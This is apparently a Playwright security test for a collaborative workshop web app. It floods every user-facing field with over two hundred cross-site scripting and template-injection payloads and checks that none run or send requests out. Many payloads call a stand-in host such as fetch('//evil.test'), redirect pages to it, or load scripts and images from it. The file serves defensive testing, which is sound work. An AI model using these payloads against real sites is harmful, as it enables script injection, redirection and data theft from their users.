import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import type { MetricSentence } from '../src/lib/bindings/index.ts';
import { Host } from './host.ts';
import { stages } from './stages.ts';

/** What a payload does when it gets to run: it asks somebody outside, and it says so. */
const deeds = [
  'alert(1)',
  'globalThis.pwned=1',
  "fetch('//evil.test')",
  "location='//evil.test'",
  "new Image().src='//evil.test'",
] as const;

/** S5: at least two hundred ways to make a page run somebody else's words. */
const payloads: readonly string[] = deeds.flatMap((deed) =>
  [
    `<script>${deed}</script>`,
    `<ScRiPt >${deed}</sCrIpT>`,
    `<script src=//evil.test/x.js></script>`,
    `<script type=module>${deed}</script>`,
    `"><script>${deed}</script>`,
    `'><script>${deed}</script>`,
    `</title><script>${deed}</script>`,
    `</textarea><script>${deed}</script>`,
    `</style><script>${deed}</script>`,
    `<img src=x onerror=${deed}>`,
    `<img src="//evil.test/i.png">`,
    `"><img src=x onerror="${deed}">`,
    `<svg onload=${deed}>`,
    `<svg><script>${deed}</script></svg>`,
    `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
    `<math><mtext><img src=x onerror=${deed}></mtext></math>`,
    `<body onload=${deed}>`,
    `<iframe src="javascript:${deed}">`,
    `<iframe srcdoc="<script>parent.${deed}</script>">`,
    `<object data="javascript:${deed}">`,
    `<embed src="//evil.test/x.swf">`,
    `<a href="javascript:${deed}">here</a>`,
    `<a href="data:text/html,<script>${deed}</script>">x</a>`,
    `<form action="//evil.test"><input autofocus onfocus=${deed}>`,
    `<input autofocus onfocus=${deed}>`,
    `<select autofocus onfocus=${deed}>`,
    `<textarea autofocus onfocus=${deed}>`,
    `<details open ontoggle=${deed}>`,
    `<video><source onerror=${deed}>`,
    `<audio src=x onerror=${deed}>`,
    `<marquee onstart=${deed}>`,
    `<link rel=stylesheet href=//evil.test/x.css>`,
    `<style>@import '//evil.test/x.css'</style>`,
    `<div style="background:url(//evil.test/b.png)">`,
    `<base href="//evil.test/">`,
    `<meta http-equiv=refresh content="0;url=//evil.test">`,
    `javascript:${deed}`,
    `{{constructor.constructor('${deed}')()}}`,
    `\${${deed}}`,
    `{@html "<img src=x onerror=${deed}>"}`,
    `{${deed}}`,
    `#{${deed}}`,
    `<%= ${deed} %>`,
    `![x](//evil.test/i.png)`,
    `[x](javascript:${deed})`,
    `&lt;script&gt;${deed}&lt;/script&gt;`,
    `%3Cscript%3E${deed}%3C/script%3E`,
    `\\u003cscript\\u003e${deed}`,
    `<scr<script>ipt>${deed}</scr</script>ipt>`,
    `<template><script>${deed}</script></template>`,
    `<slot onslotchange=${deed}>`,
  ].map((text, place) => `${text} ${place}`),
);
const payload = (place: number): string => payloads[place % payloads.length] ?? '';

const sentence = (text: string): MetricSentence => ({
  freeText: text,
  audience: '',
  action: '',
  threshold: 'any',
  thresholdCount: null,
  unit: '',
  period: null,
  condition: '',
  countedUnit: null,
});

let host: Host;
test.beforeAll(async () => {
  host = await Host.start(['--join-listen', '127.0.0.1:0']);
});
test.afterAll(() => host.stop());

/** Everything that would show that a payload ran. */
function watch(context: BrowserContext, found: string[]): void {
  context.on('request', (request) => {
    const { hostname, protocol } = new URL(request.url());
    const own =
      hostname === '127.0.0.1' || protocol === 'data:' || protocol === 'blob:' || protocol === 'about:';
    if (!own) found.push(`a request left for ${request.url()}`);
  });
  context.on('dialog', (dialog) => {
    found.push(`a dialog opened: ${dialog.message()}`);
    void dialog.dismiss();
  });
}

async function ran(page: Page): Promise<boolean> {
  const marks = await Promise.all(
    page.frames().map((frame) => frame.evaluate(() => 'pwned' in globalThis).catch(() => false)),
  );
  return marks.includes(true);
}

async function fill(): Promise<string> {
  const { api } = host;
  let next = 0;
  const words = (): string => payload((next += 1)).slice(0, 230);
  const name = (): string => payload((next += 1)).slice(0, 78);
  const id = await api.create(name());
  for (let person = 0; person < 20; person += 1) {
    const participant = { name: name(), discipline: 'sales' as const, roles: ['contributor' as const] };
    await api.send(id, { type: 'add_participant', participant });
  }
  await api.send(id, { type: 'add_team', name: name() });
  await api.send(id, { type: 'advance', note: words() });
  for (const question of [
    'job',
    'value_moment',
    'strategy',
    'business_outcome',
    'success_story',
    'central_question',
  ] as const) {
    await api.send(id, { type: 'answer_frame', question, text: words() });
  }
  await api.send(id, { type: 'add_core_user', coreUser: { name: name(), reason: words() } });
  await api.send(id, { type: 'advance', note: words() });
  while (next < payloads.length) await api.send(id, { type: 'add_candidate', sentence: sentence(words()) });
  await api.send(id, { type: 'advance', note: words() });
  return id;
}

test('s5_no_payload_runs_or_asks_anybody_on_console_projector_phone_or_brief', async ({ browser }) => {
  test.setTimeout(240_000);
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(200);
  const found: string[] = [];
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  watch(context, found);
  const id = await fill();
  const { api } = host;
  await api.send(id, { type: 'room', room: { type: 'open', address: null } });
  const link = (await api.session(id)).room.announcement?.link ?? '';
  const [console_, wall, phone] = [await context.newPage(), await context.newPage(), await context.newPage()];
  await host.console(console_, id);
  await host.projector(wall, id);
  await phone.goto(link);
  await phone.getByLabel('Name, or any alias').fill('<img src=x onerror=alert(2)>');
  await phone.getByText('Sales', { exact: true }).click();
  await phone.getByRole('button', { name: /^Join as/ }).click();
  await phone.getByRole('button', { name: 'Take my seat' }).click();
  await phone.getByLabel(/What is unclear/).fill(payload(1));
  await phone.getByRole('button', { name: 'Send it' }).click();
  await expect.poll(async () => (await api.view(id)).contributions.length).toBe(1);
  for (const stage of stages) {
    // A stage that the room has not reached can be looked at as well.
    await console_.evaluate(([at, name]) => (location.hash = `w=${at}&s=${name}`), [id, stage] as const);
    await console_.waitForTimeout(250);
    expect(await ran(console_), `console at ${stage}`).toBe(false);
  }
  await api.send(id, { type: 'advance', note: payload(3) });
  await expect(phone.getByText('Try to break it')).toBeVisible();
  for (const page of [wall, phone]) expect(await ran(page)).toBe(false);
  for (const audience of ['wide', 'team']) {
    const paper = await context.newPage();
    await paper.setContent(await api.render(id, { format: 'html', audience, paper: 'a4' } as never));
    expect(await ran(paper), `the brief for ${audience}`).toBe(false);
    await paper.close();
  }
  expect(found).toEqual([]);
  await context.close();
});

test('the watch finds a payload that runs, so that the test above can fail', async ({ browser }) => {
  const found: string[] = [];
  const context = await browser.newContext();
  watch(context, found);
  const page = await context.newPage();
  await page.setContent(
    `<img src=x onerror="globalThis.pwned=1"><script>fetch('//evil.test').catch(()=>0)</script>`,
  );
  await expect.poll(() => ran(page)).toBe(true);
  await page.setContent(`<img src="http://evil.test/i.png">`);
  await expect.poll(() => found.length).toBeGreaterThan(0);
  await context.close();
});
